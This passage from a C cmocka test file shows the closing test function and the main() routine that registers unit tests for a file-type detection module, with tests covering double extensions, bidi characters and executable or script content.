}

static void test_free_null(void **state)
{
	assert_null(sl_filetype_free(NULL));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_executables_by_content),
		cmocka_unit_test(test_content_cues),
		cmocka_unit_test(test_names),
		cmocka_unit_test(test_names_trailing_dot),
		cmocka_unit_test_setup_teardown(test_run_clean, setup, teardown),
		cmocka_unit_test_setup_teardown(test_run_executable, setup, teardown),
		cmocka_unit_test_setup_teardown(test_run_name_junk_and_containers, setup, teardown),
		cmocka_unit_test_setup_teardown(test_run_double_extension, setup, teardown),
		cmocka_unit_test_setup_teardown(test_run_double_extension_trailing_dot, setup, teardown),
		cmocka_unit_test_setup_teardown(test_run_bidi, setup, teardown),
		cmocka_unit_test_setup_teardown(test_run_type_mismatch, setup, teardown),
		cmocka_unit_test_setup_teardown(test_run_html, setup, teardown),
		cmocka_unit_test_setup_teardown(test_run_shortcut_and_image, setup, teardown),
		cmocka_unit_test(test_compressed_streams),
		cmocka_unit_test_setup_teardown(test_run_unreadable, setup, teardown),
		cmocka_unit_test_setup_teardown(test_run_dangerous_name_any_content, setup, teardown),
		cmocka_unit_test_setup_teardown(test_run_script_content, setup, teardown),
		cmocka_unit_test_setup_teardown(test_handles_shared_by_threads, setup, teardown),
		cmocka_unit_test(test_free_null),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
